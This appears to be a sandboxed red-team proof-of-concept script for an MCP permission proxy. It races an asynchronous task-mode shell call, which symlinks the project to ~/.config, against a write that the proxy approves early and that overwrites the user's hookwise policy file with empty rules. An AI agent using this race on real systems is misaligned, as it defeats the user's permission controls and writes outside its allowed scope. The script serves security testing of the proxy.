"""F2: a task-augmented `tools/call` (MCP 2025-11-25 tasks) is answered at once with a
CreateTaskResult while the tool runs on; the proxy takes that answer as the end of the call,
so the next call is decided before the task's change and run after it.

A: tools/call run_shell {sleep 1; ln -s $HOME/.config <proj>/cfg} with params.task;
B: write_file <proj>/cfg/hookwise/policy.yaml. Mode `plain`: A without params.task (B waits,
denied). Mode `task`: B decided at once, allowed, user policy emptied.
Run: python3 redteam/s35/mcp/a03_task_race.py [plain|task]"""

import sys
import time
from pathlib import Path

sys.path.insert(0, str(Path(__file__).parent))
from rt import Client, audit, row, sandbox  # noqa: E402

HERE = Path(__file__).parent
mode = sys.argv[1] if len(sys.argv) > 1 else "task"
sb = sandbox(f"a03-{mode}")
home, proj = sb["home"], sb["proj"]
c = Client(sb, [sys.executable, str(HERE / "srv_tasks.py")])
params = {"name": "run_shell", "arguments": {"command": f"sleep 1; ln -s {home}/.config {proj}/cfg"}}
if mode == "task":
    params["task"] = {"ttl": 60000}
c.send({"jsonrpc": "2.0", "id": 10, "method": "tools/call", "params": params})
row("A run_shell (sleep 1; ln -s ~/.config cfg)", c.wait(lambda m: m.get("id") == 10, 10))
b = {"path": f"{proj}/cfg/hookwise/policy.yaml", "content": "version: 1\nrules: []\n"}
row(f"B write_file {b['path']}", c.call("write_file", b))
if mode == "task":
    row("tasks/result of A", c.request("tasks/result", {"taskId": "task-10"}))
time.sleep(1.5)
c.close()
print("  link made:", (proj / "cfg").is_symlink())
print("  user policy now:", repr(sb["policy"].read_text()[:50]))
for r in audit(sb):
    print("  audit:", r.get("tool"), r.get("decision"), str(r.get("reason", ""))[:90])
